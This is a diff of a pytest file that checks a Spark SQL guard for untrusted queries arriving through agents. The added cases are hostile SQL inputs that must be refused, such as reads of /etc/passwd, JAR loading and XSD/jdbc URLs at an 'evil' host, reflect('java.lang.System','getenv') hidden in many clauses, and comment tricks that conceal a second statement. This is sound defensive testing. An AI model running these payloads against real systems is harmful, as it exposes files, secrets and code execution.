@@ -1,11 +1,19 @@
 """Untrusted SQL: what comes through an agent can read tables, and reaches nothing of the worker's machine."""
 
+import os
+
 import pytest
-from pyspark.errors import ParseException
+from pyspark.errors import AnalysisException, ParseException
 from pyspark.sql import SparkSession
 
-from streamhouse.errors import StatementError
+from streamhouse.errors import StatementError, StreamhouseError
+from streamhouse.spark.connectors.base import Reading
+from streamhouse.spark.sql.answering import Answering, Question
+from streamhouse.spark.sql.binding import bind, check
+from streamhouse.spark.sql.catalogue import Catalogue
+from streamhouse.spark.sql.limits import SqlLimits
 from streamhouse.spark.sql.untrusted import FUNCTION_GROUPS, FUNCTIONS, TABLE_FUNCTIONS, check_untrusted
+from tests.spark.sql.fakes import FakeDoor, topic
 
 pytestmark = pytest.mark.spark
 
@@ -23,7 +31,7 @@ pytestmark = pytest.mark.spark
         "-- insert\nDESCRIBE orders",
         "DESCRIBE QUERY SELECT a FROM b",
         "DESCRIBE FUNCTION abs",
-        "SHOW TABLES",
+        "SHOW FUNCTIONS",
         "SHOW COLUMNS IN orders",
         "EXPLAIN SELECT 1",
         "EXPLAIN FORMATTED WITH a AS (SELECT 1) SELECT * FROM a",
@@ -47,6 +55,11 @@ pytestmark = pytest.mark.spark
         "SELECT system.builtin.abs(-1), uuid(), version()",
         "SELECT no_such_function(1)",
         "SELECT * FROM IDENTIFIER('orders')",
+        "SELECT * FROM `shop.orders`",
+        "SELECT from_xml(v, 'a INT', map('mode', 'PERMISSIVE')), from_csv(v, 'a INT', map('sep', ';')) FROM a",
+        "SELECT schema_of_xml('<p><a>1</a></p>'), to_xml(named_struct('a', 1))",
+        "SELECT builtin.abs(-1)",
+        "SELECT user FROM a",
     ],
 )
 def test_queries_may_be_asked(spark: SparkSession, text: str) -> None:
@@ -109,11 +122,92 @@ def test_queries_may_be_asked(spark: SparkSession, text: str) -> None:
         'SELECT TRANSFORM (id) USING /* here */ "cat" FROM a',
         "SELECT * FROM (SELECT TRANSFORM (id) USING 'cat' FROM a)",
         "BEGIN SELECT 1; END",
+        "SELECT * FROM text.`/etc/passwd`",
+        "SELECT * FROM STREAM(text.`/etc/passwd`)",
+        "SELECT * FROM csv.`/etc/passwd` AS t JOIN orders ON true",
+        "SELECT * FROM json.`file:///etc/passwd`",
+        "SELECT * FROM binaryFile.`/etc/passwd`",
+        "SELECT * FROM `parquet`.`s3a://bucket/key`",
+        "SELECT * FROM delta.`/x`",
+        "SELECT * FROM streamhouse.`orders`",
+        "SELECT * FROM jdbc.`jdbc:postgresql://evil/x`",
+        "TABLE text.`/etc/passwd`",
+        "SELECT (SELECT max(value) FROM text.`/etc/passwd`)",
+        "WITH a AS (SELECT * FROM text.`/etc/passwd`) SELECT * FROM a",
+        "SELECT * FROM spark_catalog.default.secret",
+        "SELECT * FROM default.secret",
+        "SELECT * FROM global_temp.secret",
+        "SELECT * FROM system.information_schema.tables",
+        "DESCRIBE default.secret",
+        "DESCRIBE EXTENDED text.`/etc/passwd`",
+        "DESCRIBE EXTENDED orders AS JSON",
+        "DESCRIBE DATABASE default",
+        "SHOW COLUMNS IN default.secret",
+        "SHOW TABLES",
+        "SHOW TABLES IN global_temp",
+        "SHOW TABLE EXTENDED LIKE '*'",
+        "SHOW VIEWS",
+        "SHOW DATABASES",
+        "SHOW CATALOGS",
+        "SHOW TBLPROPERTIES orders",
+        "SHOW PARTITIONS orders",
+        "SHOW FUNCTIONS IN global_temp",
+        "SELECT * FROM orders VERSION AS OF 1",
+        "SELECT spark_catalog.default.f(1)",
+        "SELECT default.f(1)",
+        "SELECT * FROM spark_catalog.default.f(1)",
+        "SELECT * FROM read_files('/etc')",
+        "SELECT from_xml(v, 'a INT', map('rowValidationXSDPath', '/etc/passwd')) FROM a",
+        "SELECT from_xml(v, 'a INT', map('ROWVALIDATIONXSDPATH', 'http://evil/x.xsd')) FROM a",
+        "SELECT from_xml(v, 'a INT', map(concat('row', 'ValidationXSDPath'), '/etc/passwd')) FROM a",
+        "SELECT from_xml(v, 'a INT', str_to_map('rowValidationXSDPath:/etc/passwd')) FROM a",
+        "SELECT schema_of_xml('<a/>', map('rowValidationXSDPath', '/etc/passwd'))",
+        "SELECT from_avro(v, 'int', map('avroSchemaUrl', 'file:///etc/passwd')) FROM a",
+        "SELECT input_file_name()",
+        "SELECT session_user()",
+        "SELECT current_catalog()",
+        "SET VAR x = 1",
+        "SET TIME ZONE 'UTC'",
+        "SET spark.sql.runSQLOnFiles",
+        "SET",
+        "ADD FILE '/etc/passwd'",
+        "LIST FILES",
+        "UNCACHE TABLE orders",
+        "CLEAR CACHE",
+        "REFRESH TABLE orders",
+        "CREATE TEMPORARY FUNCTION f AS 'java.lang.Runtime' USING JAR 'http://evil/x.jar'",
+        "CREATE FUNCTION f() RETURNS STRING RETURN java_method('java.lang.System', 'getenv')",
+        "CREATE TEMPORARY VIEW v AS SELECT 1",
+        "CREATE GLOBAL TEMPORARY VIEW v AS SELECT 1",
+        "ALTER TABLE orders SET LOCATION '/etc'",
+        "CREATE TABLE x AS SELECT 1",
+        "CREATE TABLE x LIKE orders LOCATION '/tmp/x'",
+        "INSERT OVERWRITE LOCAL DIRECTORY '/tmp/x' USING text SELECT 'x'",
+        "INSERT INTO text.`/tmp/x` SELECT 'x'",
+        "EXPLAIN SELECT * FROM text.`/etc/passwd`",
+        "EXPLAIN EXECUTE IMMEDIATE 'SELECT 1'",
+        "SELECT IDENTIFIER(concat('java', '_method'))('java.lang.System', 'getenv')",
+        "SELECT * FROM IDENTIFIER('text.`/etc/passwd`')",
+        "SELECT * FROM IDENTIFIER(concat('global', '_temp.secret'))",
+        "SELECT aggregate(array(1), 0, (a, x) -> a + length(reflect('java.lang.System', 'getenv')))",
+        "SELECT count(*) FILTER (WHERE reflect('java.lang.System', 'getenv') IS NULL) FROM a",
+        "SELECT * FROM a ORDER BY reflect('java.lang.System', 'getenv')",
+        "SELECT * FROM a LIMIT length(reflect('java.lang.System', 'getenv'))",
+        "SELECT * FROM a JOIN b ON reflect('java.lang.System', 'getenv') = b.x",
+        "SELECT * FROM a PIVOT (max(reflect('java.lang.System', 'getenv')) FOR y IN (1))",
+        "SELECT x FROM a GROUP BY x HAVING reflect('java.lang.System', 'getenv') IS NOT NULL",
+        "SELECT * FROM explode(array(reflect('java.lang.System', 'getenv')))",
+        "SELECT * FROM a LATERAL VIEW explode(array(reflect('java.lang.System', 'getenv'))) t AS y",
+        "SELECT * FROM a WHERE EXISTS (SELECT * FROM (SELECT reflect('java.lang.System', 'getenv')) b)",
+        "DROP DATABASE default CASCADE",
+        "DROP TEMPORARY FUNCTION f",
+        "MSCK REPAIR TABLE a",
     ],
 )
 def test_what_reaches_further_is_refused(spark: SparkSession, text: str) -> None:
-    with pytest.raises(StatementError, match="through agents"):
+    with pytest.raises(StatementError, match="through agents") as refused:
         check_untrusted(spark, text)
+    assert "queries are allowed" in refused.value.hint
 
 
 @pytest.mark.parametrize("text", ["", "SELEC 1", "SELECT * FROM a b c d"])
@@ -141,3 +235,62 @@ def test_every_function_of_this_spark_was_decided_on(spark: SparkSession) -> Non
     }
     found = tables.listFunction()
     assert {found.apply(index).funcName() for index in range(found.size())} - TABLE_FUNCTIONS == {"python_worker_logs"}
+
+
+HIDDEN = "SELECT reflect('java.lang.System', 'getProperty', 'user.home')"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"-- \r{HIDDEN} UNION ALL -- \nSELECT 1",
+        "-- \\\nSELECT '\n" + HIDDEN.replace("'", '"') + " --'",
+        f"EXPLAIN -- \rSELECT 1 -- \\\n{HIDDEN}",
+        f"EXPLAIN /* a */ -- \r{HIDDEN}",
+    ],
+)
+def test_what_is_judged_is_what_is_run(spark: SparkSession, text: str) -> None:
+    """A comment ends where Spark says that it ends, and hides nothing."""
+    answering = Answering(spark, agents="127.0.0.1:1", limits=SqlLimits())
+    try:
+        reply = answering.ask(Question(sql=text, is_untrusted=True), "hidden")
+        told = str([batch.to_pylist() for batch in reply.batches])
+    except StreamhouseError as error:
+        told = str(error)
+    assert os.path.expanduser("~") not in told
+    assert "reflect(" not in told
+
+
+def test_a_table_that_the_workers_user_made_is_nobody_elses(spark: SparkSession) -> None:
+    spark.sql("CREATE DATABASE IF NOT EXISTS streamhouse_guests")
+    spark.sql("CREATE OR REPLACE GLOBAL TEMPORARY VIEW shared AS SELECT 1 AS x")
+    spark.sql("CREATE TABLE IF NOT EXISTS secret USING parquet AS SELECT 1 AS x")
+    catalogue, reading = Catalogue("127.0.0.1:1", door=FakeDoor()), Reading(agents="127.0.0.1:1")
+    try:
+        assert bind(spark, "SELECT x FROM secret", catalogue, reading).frame.collect() == [(1,)]
+        for text in (
+            "SELECT x FROM secret",
+            "SELECT x FROM default.secret",
+            "SELECT x FROM global_temp.shared",
+            "SELECT x FROM secret WHERE x IN (WITH secret AS (SELECT 1 AS x) SELECT x FROM secret)",
+            "DESCRIBE secret",
+        ):
+            for judge in (bind, check):
+                with pytest.raises((StatementError, AnalysisException)):
+                    judge(spark, text, catalogue, reading, is_untrusted=True)
+    finally:
+        spark.sql("DROP TABLE secret")
+
+
+@pytest.mark.parametrize("text", ["SELECT current_user", "SELECT session_user AS x", "SELECT upper(user)"])
+def test_the_workers_user_is_nobodys_business(spark: SparkSession, text: str) -> None:
+    catalogue, reading = Catalogue("127.0.0.1:1", door=FakeDoor()), Reading(agents="127.0.0.1:1")
+    with pytest.raises(StatementError, match="through agents"):
+        bind(spark, text, catalogue, reading, is_untrusted=True)
+
+
+@pytest.mark.parametrize("kind", ["INT, b STRING", "INT DEFAULT 1", "INT COMMENT 'x'", "STRING) || uuid() || ("])
+def test_a_columns_type_smuggles_nothing(spark: SparkSession, kind: str) -> None:
+    catalogue = Catalogue("127.0.0.1:1", door=FakeDoor(topic("orders", "json", a=kind)))
+    with pytest.raises(StatementError, match="without a type"):
+        bind(spark, "SELECT a FROM orders", catalogue, Reading(agents="127.0.0.1:1"), is_untrusted=True)
